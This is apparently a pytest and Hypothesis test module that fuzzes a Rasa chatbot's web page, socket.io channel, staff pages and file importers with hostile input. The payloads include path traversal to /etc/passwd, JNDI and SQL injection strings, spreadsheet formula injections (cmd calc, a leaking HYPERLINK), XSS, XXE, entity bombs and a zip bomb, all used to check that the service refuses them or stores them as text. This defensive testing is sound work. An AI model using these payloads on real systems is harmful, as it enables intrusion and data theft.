"""Hostile input: generated and hand-made bad requests against every door a stranger can knock on.

The real Rasa server, action server and page run once for the module (SQLite). Hypothesis makes
the requests (derandomized, no example database on disk, modest example counts). Covered:

- the page's forwarding (POST /webhooks/rest/webhook) and Rasa's own REST channel: oversized,
  not JSON, not UTF-8, deeply nested, wrong shapes; hostile text in a well-formed message;
- forged button payloads (`/intent{"entity": ...}`): a payload with extra entities (`flow`,
  `answer`, `requested_slot`, someone else's respondent id) gets exactly the reply of the same
  payload without them, so no slot is set that way, and nobody else's answers are touched;
- path traversal in /static/, /i18n/<lang>.json, /safety/, /privacy/ and on Rasa's port;
- formula and script injection in answers: stored as text;
- many messages and many new chats from one address: a kind 429 (bot/web/ratelimit.py);
- a session id never reads another session: Rasa's HTTP API is off, the servers listen on loopback;
- the socket.io channel: hostile events, and no way to reach another connection's conversation;
- the importers (.csv, .xlsx, .docx): generated files, broken files, XML entity and zip bombs.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import io
import json
import os
import re
import secrets
import threading
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.anonymise import redact
from bot.conversation import i18n
from bot.conversation.catalogue import catalogue
from bot.conversation.flow import clean_text
from bot.importers import import_file
from bot.paths import ROOT
from bot.store import Store
from bot.store.models import Answer, AuditEntry, PausedSession, Respondent
from tests.servers import running_bot

pytestmark = pytest.mark.servers

FUZZ = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
FEW = settings(FUZZ, max_examples=25)
MAX_BODY = 64 * 1024
INTENTS = yaml.safe_load((ROOT / "domain" / "intents.yml").read_text())["intents"]
LEGIT_ENTITIES = yaml.safe_load((ROOT / "domain" / "intents.yml").read_text())["entities"]


# ----------------------------------------------------------------------------- helpers
def request(port: int, method: str, path: str, body: bytes = b"", headers: dict | None = None):
    """(status, body bytes) of one raw HTTP request: nothing is cleaned up on the way."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=90)
    try:
        conn.request(method, path, body=body, headers={"Content-Type": "application/json", **(headers or {})})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def say(port: int, sender: str, message: str, **extra) -> tuple[int, object]:
    status, body = request(port, "POST", "/webhooks/rest/webhook",
                           json.dumps({"sender": sender, "message": message, **extra}).encode())
    return status, json.loads(body)


def texts(reply: object) -> list[str]:
    return [m.get("text", "") for m in reply] if isinstance(reply, list) else []


CODE = re.compile(r"[A-Z2-9]{4}-[A-Z2-9]{4}")


def comparable(reply: object) -> object:
    """A reply without the recipient id and with codes blanked (two people get the same words, their own codes)."""
    if not isinstance(reply, list):
        return reply
    return [{k: CODE.sub("CODE", v) if isinstance(v, str) else v for k, v in m.items() if k != "recipient_id"}
            for m in reply]


def sender() -> str:
    return secrets.token_hex(16)


def rows(store: Store, model) -> list:
    with store.session() as s:
        return list(s.query(model))


def answers_of(store: Store, rid: str) -> dict[str, str | None]:
    with store.session() as s:
        return {a.question_id: a.text for a in s.query(Answer).filter(Answer.respondent_id == rid)}


def to_first_question(port: int, who: str, themes=("civil",)) -> None:
    steps = ["hello", *('/choose{"choice":"%s"}' % v for v in ("en", "continue", "yes", "yes", "none", "wales",
                                                              *themes, "done"))]
    for message in steps:
        status, reply = say(port, who, message)
        assert status == 200, (message, reply)


def still_works(port: int) -> None:
    status, reply = say(port, sender(), "hello")
    assert status == 200 and texts(reply)[0] == i18n.text("en", "welcome.text")


# ----------------------------------------------------------------------------- the running bot
@pytest.fixture(scope="module")
def bot(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{tmp / 'answers.db'}"
    limits = {"IMSA_RATE_MESSAGES_PER_MINUTE": "0", "IMSA_RATE_NEW_CHATS_PER_HOUR": "0"}  # the fuzzing is one address
    old = {k: os.environ.get(k) for k in limits}
    os.environ.update(limits)
    try:
        with running_bot(url, tmp / "logs") as services:
            store = Store(url)
            victim = sender()
            to_first_question(services.ports.rasa, victim)
            say(services.ports.rasa, victim, "The victim's first answer, about court letters.")
            [rid] = [r.id for r in rows(store, Respondent)]
            yield {"services": services, "store": store, "logs": tmp / "logs", "tmp": tmp,
                   "web": services.ports.web, "rasa": services.ports.rasa,
                   "victim": victim, "victim_rid": rid, "victim_answers": answers_of(store, rid)}
            store.engine.dispose()
    finally:
        for k, v in old.items():
            os.environ.pop(k, None) if v is None else os.environ.__setitem__(k, v)


@pytest.fixture(scope="module", autouse=True)
def _nothing_leaks(bot):
    """After every test here: the victim's answers are as they were, and no log holds a canary word."""
    yield
    assert answers_of(bot["store"], bot["victim_rid"]) == bot["victim_answers"]
    for log in bot["logs"].glob("*.log"):
        assert "CANARY" not in log.read_text(errors="replace"), log.name


# ----------------------------------------------------------------------------- bodies
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
not_a_string = st.none() | st.booleans() | st.integers() | st.lists(st.text(max_size=5), max_size=3) | \
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2)
misshapen = st.one_of(
    json_values.filter(lambda v: not isinstance(v, dict)),
    st.fixed_dictionaries({"sender": not_a_string, "message": st.text(max_size=20)}),
    st.fixed_dictionaries({"sender": st.text(max_size=20), "message": not_a_string}),
    st.fixed_dictionaries({"message": st.text(max_size=20)}),
).map(lambda v: json.dumps(v).encode())
depth = st.integers(min_value=1000, max_value=30000)
bad_bodies = st.one_of(
    misshapen,
    st.binary(max_size=200).filter(lambda b: not _is_json(b)),  # not JSON at all
    st.binary(min_size=1, max_size=20).map(lambda b: b'{"sender": "x", "message": "' + b"\xff" + b + b'"}'),
    depth.map(lambda n: b"[" * n + b"]" * n),
    depth.map(lambda n: b'{"sender": "x", "message": "hi", "lang": ' + b"[" * n + b"]" * n + b"}"),
    st.integers(min_value=MAX_BODY + 1, max_value=3 * MAX_BODY).map(
        lambda n: json.dumps({"sender": "x", "message": "CANARY" + "a" * n}).encode()),
)


def _is_json(raw: bytes) -> bool:
    try:
        json.loads(raw)
    except (ValueError, RecursionError):
        return False
    return True


@FUZZ
@given(body=bad_bodies)
def test_the_page_refuses_a_bad_body_with_a_clear_error(bot, body):
    status, answer = request(bot["web"], "POST", "/webhooks/rest/webhook", body)
    assert status in (400, 413), (status, answer[:200])
    if status == 400:
        assert "error" in json.loads(answer)


@FUZZ
@given(body=bad_bodies)
def test_rasas_own_rest_channel_answers_a_bad_body_and_keeps_working(bot, body):
    """Rasa's port is not public (the page forwards to it); still, nothing there hangs or falls over."""
    status, _ = request(bot["rasa"], "POST", "/webhooks/rest/webhook", body)
    assert status in (200, 400, 413, 500)
    if len(body) > MAX_BODY:
        assert status == 413  # SANIC_REQUEST_MAX_SIZE (bot/rasa/server.py)


hostile_text = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Co", "Cs"]), max_size=40),
    st.sampled_from(["\u202e", "\x00", "\ufeff", "/", "/restart", "/session_start", "/answer{",
                     "{{t:consent.question}}", "%s%s%n", "${jndi:ldap://x}", "'; DROP TABLE answers; --", "\ud800",
                     "a" * 5000]),
)


@FUZZ
@given(message=hostile_text, lang=st.one_of(st.none(), st.text(max_size=8), st.sampled_from(["ar", "../en", "en\x00"])))
def test_hostile_text_in_a_well_formed_message_gets_a_reply_or_the_kind_error(bot, message, lang):
    status, reply = say(bot["web"], sender(), message, lang=lang)
    assert status in (200, 503), (status, reply)
    if status == 503:  # e.g. Rasa's own "/restart": no reply, so the kind message (English, as lang is not known)
        known = lang if lang in i18n.languages() else "en"
        assert reply["text"] == i18n.text(known, "error.general")


def test_after_the_fuzzing_both_doors_still_work(bot):
    still_works(bot["web"])
    still_works(bot["rasa"])


# ----------------------------------------------------------------------------- forged payloads
def payload(intent: str, entities: dict) -> str:
    return f"/{intent}{json.dumps(entities)}" if entities else f"/{intent}"


def forged_entities(victim_rid: str):
    state = st.fixed_dictionaries({
        "step": st.sampled_from(["q:civil.barriers", "stop_confirm", "ended", "themes", "../../etc"]),
        "lang": st.sampled_from(["ar", "xx"]),
        "respondent": st.just(victim_rid),
    })
    forged_value = st.one_of(json_values, state, st.just(victim_rid))
    return st.dictionaries(
        st.sampled_from(["flow", "answer", "requested_slot", "respondent", "step", "session_started_metadata",
                         "lang", "active_loop", "CANARY"]),
        forged_value, min_size=1, max_size=3)


legit_values = st.one_of(st.sampled_from(["en", "ar", "continue", "yes", "no", "none", "wales", "civil", "all",
                                          "done", "stop_delete", "pause", "carry_on", "../../etc/passwd"]),
                         json_values)


@st.composite
def forged_turns(draw, victim_rid: str):
    intent = draw(st.sampled_from([*INTENTS, "restart", "session_start", "nlu_fallback", "out_of_scope"]))
    legit = draw(st.dictionaries(st.sampled_from(LEGIT_ENTITIES), legit_values, max_size=1))
    forged = draw(forged_entities(victim_rid))
    return payload(intent, {**legit, **forged}), payload(intent, legit)


@settings(FUZZ, max_examples=12)
@given(data=st.data())
def test_a_forged_payload_sets_no_slot_and_touches_nobody_else(bot, data):
    """Two people in the same place send the same button, one with forged extra entities: they get
    the same replies, then and afterwards, so the extra entities set nothing."""
    port = bot["rasa"]
    forger, honest = sender(), sender()
    if data.draw(st.booleans(), label="start at a question"):
        to_first_question(port, forger)
        to_first_question(port, honest)
    for _ in range(data.draw(st.integers(1, 4), label="turns")):
        forged, clean = data.draw(forged_turns(bot["victim_rid"]), label="payloads")
        (status_a, a), (status_b, b) = say(port, forger, forged), say(port, honest, clean)
        assert status_a == status_b and comparable(a) == comparable(b), (forged, clean)
    assert comparable(say(port, forger, "/repeat")[1]) == comparable(say(port, honest, "/repeat")[1])


def test_a_forged_stop_and_delete_with_someone_elses_id_deletes_only_ones_own(bot):
    port, store = bot["rasa"], bot["store"]
    forger = sender()
    before = {r.id for r in rows(store, Respondent)}
    to_first_question(port, forger)
    [own] = {r.id for r in rows(store, Respondent)} - before
    state = {"step": "stop_confirm", "respondent": bot["victim_rid"], "lang": "en"}
    say(port, forger, payload("stop", {"flow": state, "respondent": bot["victim_rid"]}))
    say(port, forger, payload("choose", {"choice": "stop_delete", "flow": state}))
    assert own not in {r.id for r in rows(store, Respondent)}  # the forger deleted their own (empty) record
    assert answers_of(store, bot["victim_rid"]) == bot["victim_answers"]
    status, reply = say(port, bot["victim"], "/repeat")  # and the victim carries on where they were
    assert i18n.text("en", catalogue().question("civil.solutions").chat_key) in texts(reply)


# ----------------------------------------------------------------------------- path traversal
SECRETS_ON_DISK = (b"def make_app", b"root:x:0:0", b"IMSA_SECRET_KEY", b"[core]", b"sqlite")
traversal = st.lists(st.sampled_from(["..", "%2e%2e", "%2E%2E", ".%2e", "..%2f", "..%5c", "%2f", "/", "\\", "etc",
                                      "passwd", "app.py", "bot", "web", "en", "secret.key", "%00", "."]),
                     min_size=1, max_size=6).map("".join)


@FUZZ
@given(prefix=st.sampled_from(["/static/", "/i18n/", "/safety/", "/privacy/", "/"]), name=traversal,
       suffix=st.sampled_from(["", ".json", ".js", "%00.json"]))
def test_no_path_reaches_a_file_that_is_not_served(bot, prefix, name, suffix):
    path = prefix + name + suffix
    for port in (bot["web"], bot["rasa"]):
        status, body = request(port, "GET", path)
        assert status in (200, 301, 302, 308, 400, 403, 404, 405), (port, path, status)
        assert not any(mark in body for mark in SECRETS_ON_DISK), (port, path)


def test_only_the_listed_files_are_served_whatever_the_spelling(bot):
    for path in ("/static/..%2Fapp.py", "/static/%2e%2e/app.py", "/static/chat.js%00.png", "/static/./chat.css/..",
                 "/i18n/..%2F..%2Ftranslations%2Fen.json", "/i18n/en.json/../../app.py", "/safety/..%2F..",
                 "/privacy/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/static//etc/passwd"):
        status, body = request(bot["web"], "GET", path)
        assert status == 404 and b"def " not in body, path


# ----------------------------------------------------------------------------- injection in answers
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "{{t:consent.question}} ${7*7} {{7*7}}",
]


def test_formula_and_script_injection_in_answers_is_stored_as_plain_text(bot):
    port, store = bot["web"], bot["store"]
    person = sender()
    before = {r.id for r in rows(store, Respondent)}
    to_first_question(port, person, themes=("criminal", "civil", "health"))
    [rid] = {r.id for r in rows(store, Respondent)} - before
    typed = [f"{text} (answer number {n} about help at court)" for n, text in enumerate(INJECTIONS)]
    for text in typed:
        status, reply = say(port, person, text)
        assert status == 200 and i18n.text("en", "answer.saved") in texts(reply), (text, reply)
    stored = [a.text for a in sorted(rows(store, Answer), key=lambda a: a.id) if a.respondent_id == rid and a.text]
    assert stored == [redact(clean_text(text), "en").text for text in typed]  # as typed (trimmed), never run


def test_the_chat_page_never_turns_text_into_html():
    """Bot and person text go in with textContent / text nodes (tests/test_widget.py checks it in a browser)."""
    for name in ("chat.js", "worker.js"):
        source = (ROOT / "bot" / "web" / "static" / name).read_text()
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                     "setTimeout(\"", "srcdoc"):
            assert sink not in source, (name, sink)


# ----------------------------------------------------------------------------- rate limits
def test_one_address_gets_a_kind_429_for_too_many_messages_or_new_chats(bot, monkeypatch):
    from aiohttp.test_utils import TestClient, TestServer

    from bot.web import app as web_app

    async def scenario() -> None:
        monkeypatch.setenv("IMSA_RATE_MESSAGES_PER_MINUTE", "6")
        monkeypatch.setenv("IMSA_RATE_NEW_CHATS_PER_HOUR", "4")  # bursts of 2
        monkeypatch.setenv("IMSA_PROXY_HOPS", "1")  # one proxy of our own in front: it adds X-Forwarded-For
        app = web_app.make_app(f"http://127.0.0.1:{bot['rasa']}")
        async with TestClient(TestServer(app)) as client:
            async def post(who: str, address: str, lang: str = "fr"):
                response = await client.post("/webhooks/rest/webhook", json={"sender": who, "message": "hello",
                                                                                "lang": lang},
                                             headers={"X-Forwarded-For": f"203.0.113.9, {address}"})
                return response.status, await response.json(), response.headers

            one, two, three = sender(), sender(), sender()
            assert (await post(one, "198.51.100.1"))[0] == 200
            assert (await post(two, "198.51.100.1"))[0] == 200
            status, body, headers = await post(three, "198.51.100.1")  # a third new chat at once
            assert status == 429 and body["text"] == i18n.text("fr", "widget.error.busy")
            assert headers["Retry-After"] == "60"
            for _ in range(3):  # the chats already open go on ...
                assert (await post(one, "198.51.100.1"))[0] == 200
            status, body, _ = await post(one, "198.51.100.1", "ar")  # ... up to 6 messages a minute
            assert status == 429 and body["text"] == i18n.text("ar", "widget.error.busy")
            assert (await post(three, "198.51.100.2"))[0] == 200  # another address has its own buckets

    asyncio.run(scenario())


def test_the_forwarded_address_counts_only_behind_a_configured_proxy(monkeypatch):
    from bot.web.ratelimit import client_address

    monkeypatch.delenv("IMSA_PROXY_HOPS", raising=False)
    assert client_address("192.0.2.1", "198.51.100.7") == "192.0.2.1"  # forged header ignored
    assert client_address("192.0.2.1", "198.51.100.7, 203.0.113.5", hops=1) == "203.0.113.5"
    assert client_address("192.0.2.1", "198.51.100.7, 203.0.113.5", hops=2) == "198.51.100.7"
    assert client_address("192.0.2.1", "", hops=1) == "192.0.2.1"


def test_a_token_bucket_refills_with_time_and_forgets_old_addresses():
    from bot.web.ratelimit import TokenBuckets

    buckets = TokenBuckets(capacity=2, per_second=1, max_keys=3)
    assert [buckets.take("a", now=0), buckets.take("a", now=0), buckets.take("a", now=0)] == [True, True, False]
    assert buckets.take("a", now=1.0) and not buckets.take("a", now=1.0)
    for key in "bcd":
        buckets.take(key, now=2.0)
    assert list(buckets.buckets) == ["b", "c", "d"]  # memory stays bounded
    assert TokenBuckets(capacity=1, per_second=0).take("x") is True  # 0 turns the limit off


# ----------------------------------------------------------------------------- other sessions
def test_no_door_reads_a_conversation_by_its_session_id(bot):
    sid = bot["victim"]
    for port in (bot["rasa"], bot["web"]):
        for method, path in [("GET", f"/conversations/{sid}/tracker"), ("GET", f"/conversations/{sid}/messages"),
                             ("GET", f"/conversations/{sid}/story"), ("POST", f"/conversations/{sid}/tracker/events"),
                             ("POST", f"/conversations/{sid}/execute"), ("POST", "/model/parse"), ("GET", "/domain"),
                             ("GET", "/status"), ("PUT", "/model"), ("GET", f"/webhooks/rest/webhook?sender={sid}")]:
            status, body = request(port, method, path, b"{}")
            assert status in (404, 405), (port, method, path, status)
            assert b"court letters" not in body


def test_the_rasa_api_is_off_and_the_servers_listen_on_loopback_only(bot):
    from bot.rasa import project as rasa_project

    for command in rasa_project.commands(bot["services"].ports).values():
        assert "--enable-api" not in command and "--cors" not in command
    listening = _listening_addresses()
    ports = bot["services"].ports
    assert listening.get(ports.rasa) == {"127.0.0.1"}, listening.get(ports.rasa)
    # the actions run inside Rasa by default (no action server at all); an action server, when there is one,
    # listens on loopback only
    expected = None if rasa_project.actions_in_process() else {"127.0.0.1"}
    assert listening.get(ports.actions) == expected, (ports.actions, listening.get(ports.actions))


def _listening_addresses() -> dict[int, set[str]]:
    """port -> addresses listened on, from /proc/net/tcp (no traffic sent)."""
    out: dict[int, set[str]] = {}
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state != "0A":  # LISTEN
            continue
        address, port = local.split(":")
        octets = [str(int(address[i:i + 2], 16)) for i in (6, 4, 2, 0)]
        out.setdefault(int(port, 16), set()).add(".".join(octets))
    for line in Path("/proc/net/tcp6").read_text().splitlines()[1:] if Path("/proc/net/tcp6").exists() else []:
        local, state = line.split()[1], line.split()[3]
        if state == "0A":
            address, port = local.split(":")
            out.setdefault(int(port, 16), set()).add("::" if set(address) == {"0"} else address)
    return out


# ----------------------------------------------------------------------------- socket.io
class Socket:
    """A socket.io client of Rasa's channel; collects what the bot says to it."""

    def __init__(self, port: int) -> None:
        import socketio

        self.said: list[dict] = []
        self.arrived = threading.Event()
        self.client = socketio.Client(reconnection=False)
        self.client.on("bot_uttered", self._bot_uttered)
        self.client.connect(f"http://127.0.0.1:{port}", socketio_path="/socket.io", transports=["polling"],
                            wait_timeout=30)

    def _bot_uttered(self, data: dict) -> None:
        self.said.append(data)
        if isinstance(data, dict) and data.get("quick_replies"):  # a step's last message carries its buttons
            self.arrived.set()

    def say(self, data: object) -> list[dict]:
        self.said.clear()
        self.arrived.clear()
        self.client.emit("user_uttered", data)
        self.arrived.wait(30)
        return list(self.said)

    def close(self) -> None:
        self.client.eio.disconnect(abort=True)  # without waiting for a long poll to end


@pytest.fixture(scope="module")
def sockets(bot):
    made: list[Socket] = []

    def make() -> Socket:
        made.append(Socket(bot["rasa"]))
        return made[-1]

    yield make
    for s in made:
        with contextlib.suppress(Exception):
            s.close()


socket_data = st.one_of(
    json_values,
    st.fixed_dictionaries({"message": not_a_string}),
    st.fixed_dictionaries({"message": st.text(max_size=30).map(lambda t: "CANARY " + t),
                           "session_id": json_values, "metadata": json_values}),
    st.fixed_dictionaries({"message": st.just("CANARY hello"),
                           "metadata": st.sampled_from(["{", "[" * 5000 + "]" * 5000, "null", '"x"'])}),
)


def test_the_socketio_channel_survives_hostile_events(bot, sockets):
    socket = sockets()

    @FEW
    @given(data=socket_data)
    def hostile(data):
        nonlocal socket
        if not socket.client.connected:  # the server may hang up on a bad packet: fine, come back
            socket = sockets()
        socket.client.emit("user_uttered", data)

    hostile()
    fresh = sockets()  # and the channel still answers a plain message
    assert fresh.say({"message": "hello"})[0]["text"] == i18n.text("en", "welcome.text")


def test_the_socketio_channel_works_and_a_forged_session_id_reaches_nobody_else(bot, sockets):
    victim, forger = sockets(), sockets()
    assert victim.say({"message": "hello"})[0]["text"] == i18n.text("en", "welcome.text")
    assert victim.say({"message": '/choose{"choice":"en"}'})[-1]["text"] == i18n.text("en", "about.question")
    victim.said.clear()
    # the forger names the victim's connection, and the REST victim's sender id: still their own conversation
    for forged in (victim.client.get_sid(), bot["victim"]):
        reply = forger.say({"message": "hello", "session_id": forged})
        assert reply and reply[0]["text"] == i18n.text("en", "welcome.text")
    assert victim.said == []  # nothing of the forger's reached the victim ...
    assert victim.say({"message": '/choose{"choice":"continue"}'})[-1]["text"] == i18n.text("en", "consent.question")


def test_an_oversized_socketio_message_is_refused_and_the_channel_goes_on(bot, sockets):
    big = sockets()
    with contextlib.suppress(Exception):
        big.client.emit("user_uttered", {"message": "CANARY" + "a" * (2 * MAX_BODY)})
    fresh = sockets()
    assert fresh.say({"message": "hello"})[0]["text"] == i18n.text("en", "welcome.text")


# ----------------------------------------------------------------------------- importers
@pytest.fixture(scope="module")
def import_store(tmp_path_factory):
    s = Store(f"sqlite:///{tmp_path_factory.mktemp('imports') / 'answers.db'}")
    yield s
    s.engine.dispose()


def _counts(store: Store) -> tuple[int, int, int]:
    return len(rows(store, Respondent)), len(rows(store, Answer)), len(rows(store, PausedSession))


cell = st.one_of(
    st.text(max_size=60),
    st.sampled_from([*INJECTIONS, "", "\x00", "\r\n", '"', '""quoted""', "a,b;c\td", "question_id", "answer"]),
)
question_ids = st.sampled_from(["criminal.barriers", "civil.solutions", "health.good_practice", "nope", "../x",
                                "about.nation", "about.respondent_type", "about.language", ""])


@FUZZ
@given(rows_=st.lists(st.tuples(question_ids, cell), max_size=8), junk=st.binary(max_size=40),
       name=st.sampled_from(["form.csv", "../../etc/evil.csv", "=cmd|' calc'!A0.csv", "a\nb.csv", "CANARY.csv"]))
def test_a_generated_csv_is_imported_as_text_or_refused_whole(import_store, tmp_path_factory, rows_, junk, name):
    folder = tmp_path_factory.mktemp("csv")
    path = folder / Path(name).name
    out = io.StringIO()
    import csv

    writer = csv.writer(out)
    writer.writerow(["question_id", "question", "answer"])
    for qid, text in rows_:
        writer.writerow([qid, "", text.replace("\x00", "")])  # the csv module cannot write NUL; junk can
    path.write_bytes(out.getvalue().encode("utf-8", "surrogatepass") + junk)
    before = _counts(import_store)
    report = import_file(import_store, path, actor="fuzz")
    if not report.ok:
        assert _counts(import_store) == before  # nothing of a refused file is written
        assert "NOT imported" in report.lines()[0]
    audit = rows(import_store, AuditEntry)
    assert all("CANARY" not in (a.detail or "") and "evil" not in (a.detail or "") for a in audit)  # names: never


def test_imported_formulas_and_scripts_stay_text(import_store, tmp_path):
    import csv

    path = tmp_path / "injections.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["question_id", "question", "answer"])
        for qid, text in zip(["criminal.barriers", "criminal.solutions", "criminal.good_practice", "civil.barriers",
                              "civil.solutions", "civil.good_practice", "health.barriers", "health.solutions"],
                             INJECTIONS):
            writer.writerow([qid, "", text])
    before = {r.id for r in rows(import_store, Respondent)}
    report = import_file(import_store, path, actor="test")
    assert report.ok, report.lines()
    [rid] = {r.id for r in rows(import_store, Respondent)} - before
    stored = sorted(a.text for a in rows(import_store, Answer) if a.respondent_id == rid)
    assert stored == sorted(redact(t.strip(), "en").text for t in INJECTIONS)


@FEW
@given(junk=st.binary(max_size=400), suffix=st.sampled_from([".xlsx", ".docx", ".csv"]))
def test_a_broken_file_is_refused_whole_with_a_clear_reason(import_store, tmp_path_factory, junk, suffix):
    path = tmp_path_factory.mktemp("junk") / f"broken{suffix}"
    path.write_bytes(junk)
    before = _counts(import_store)
    report = import_file(import_store, path, actor="fuzz")
    assert not report.ok and _counts(import_store) == before
    assert report.error and "Traceback" not in report.error


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
          + "]>")


def _office_file(path: Path, kind: str, part: str, xml: str) -> Path:
    """A real template (written by the project) with one of its parts replaced (none when part is "")."""
    from bot.importers import write_template

    template = write_template(kind, path.with_name("template." + kind))
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item, xml if item.filename == part else src.read(item.filename))
    return path


SHEET = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}'
         "</sheetData></worksheet>")
DOCUMENT = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}'
            "</w:body></w:document>")


def _sheet_rows(*rows: tuple[str, ...]) -> str:
    cells = (''.join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in row) for row in rows)
    return "".join(f"<row>{c}</row>" for c in cells)


def _paragraphs(*texts: str) -> str:
    return "".join(f"<w:p><w:r><w:t>{t}</w:t></w:r></w:p>" for t in texts)


def test_xml_entity_bombs_are_refused_and_external_entities_never_read(import_store, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("CANARY secret from the server's disk")
    external = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ext SYSTEM "file://{secret}">]>'
    wording = catalogue().question("criminal.barriers").written
    header = ("question_id", "question", "answer")
    bombs = [
        ("xlsx", "xl/worksheets/sheet1.xml",
         LAUGHS + SHEET.format(_sheet_rows(header, ("criminal.barriers", "", "&lol9;")))),
        ("docx", "word/document.xml", LAUGHS + DOCUMENT.format(_paragraphs(wording, "&lol9;"))),
    ]
    for n, (kind, part, xml) in enumerate(bombs):
        before = _counts(import_store)
        report = import_file(import_store, _office_file(tmp_path / f"bomb{n}.{kind}", kind, part, xml), actor="t")
        assert not report.ok and "XML cannot be read" in report.error, report.lines()  # refused, clearly
        assert _counts(import_store) == before
    leaks = [
        ("xlsx", "xl/worksheets/sheet1.xml",
         external + SHEET.format(_sheet_rows(header, ("criminal.barriers", "", "&ext; and my own words")))),
        ("docx", "word/document.xml", external + DOCUMENT.format(_paragraphs(wording, "&ext; and my own words"))),
    ]
    for n, (kind, part, xml) in enumerate(leaks):
        before = _counts(import_store)
        report = import_file(import_store, _office_file(tmp_path / f"xxe{n}.{kind}", kind, part, xml), actor="t")
        # a document declaring an external entity is refused whole, saying so: nothing of it is written ...
        assert not report.ok and report.error, report.lines()
        assert "Nothing of this file was written" in report.lines()[0]
        assert _counts(import_store) == before
    assert all("CANARY" not in (a.text or "") for a in rows(import_store, Answer))  # ... and the file was never read


def test_a_zip_bomb_is_refused_before_it_is_unpacked(import_store, tmp_path):
    from bot.importers import readers

    path = tmp_path / "bomb.xlsx"
    template = _office_file(tmp_path / "plain.xlsx", "xlsx", "", "")
    row = _sheet_rows(("criminal.barriers", "", "x")).encode()
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, src.read(item.filename))
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:  # written as a stream
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            block = row * 20_000
            for _ in range(readers.MAX_UNPACKED_BYTES // len(block) + 1):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    assert path.stat().st_size < readers.MAX_UNPACKED_BYTES // 50  # small packed, huge unpacked
    before = _counts(import_store)
    report = import_file(import_store, path, actor="t")
    assert not report.ok and "unpack" in report.error, report.lines()
    assert _counts(import_store) == before


# ----------------------------------------------------------------------------- the staff area
STAFF_PASSWORD = "correct horse battery staple"


@pytest.fixture(scope="module")
def staff(bot):
    """A signed-in staff member on the module's page server, and a respondent of theirs to play with:
    answers holding formula and script injections, saved through the Store's one door."""
    import requests

    from bot.staff import users

    store = bot["store"]
    users.add_user(store, "hostile-tester", "admin", STAFF_PASSWORD)
    base = f"http://127.0.0.1:{bot['web']}"
    session = requests.Session()
    from tests.staff_helpers import sign_in_requests

    csrf = sign_in_requests(session, base, "hostile-tester", STAFF_PASSWORD)  # the password, then a TOTP code
    rid = store.create_respondent("en")
    questions = [q.id for q in catalogue().questions_for(["criminal", "civil", "health"])]
    for qid, text in zip(questions, INJECTIONS):
        store.save_answer(rid, qid, "en", text=text)
    with store.session() as s:
        ids = [a.id for a in s.query(Answer).filter(Answer.respondent_id == rid)]
    yield {"session": session, "base": base, "csrf": csrf, "ids": ids, "rid": rid}
    session.close()


def _dangerous_markup(html: str) -> list[str]:
    import lxml.html

    tree = lxml.html.fromstring(html)
    found = [f"inline script: {s.text[:40]!r}" for s in tree.iter("script") if (s.text or "").strip()]
    found += [f"{el.tag} {name}" for el in tree.iter() if isinstance(el.tag, str)
              for name in el.attrib if name.lower().startswith("on")]
    found += [f"{el.tag} {name}" for el in tree.iter() if isinstance(el.tag, str)
              for name, value in el.attrib.items() if value.strip().lower().startswith("javascript:")]
    return found


def test_the_staff_pages_show_injected_answers_as_text(staff):
    session, base = staff["session"], staff["base"]
    pages = [f"/staff/answers/{i}" for i in staff["ids"]] + ["/staff/answers", "/staff/review", "/staff/dashboard"]
    seen = ""
    for path in pages:
        response = session.get(base + path)
        assert response.status_code == 200, (path, response.status_code)
        assert _dangerous_markup(response.text) == [], path
        seen += response.text
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in seen  # shown, as text


def test_the_spreadsheet_exports_defuse_formulas(staff):
    import csv

    import openpyxl

    session, base = staff["session"], staff["base"]
    response = session.get(base + "/staff/export", params={"format": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
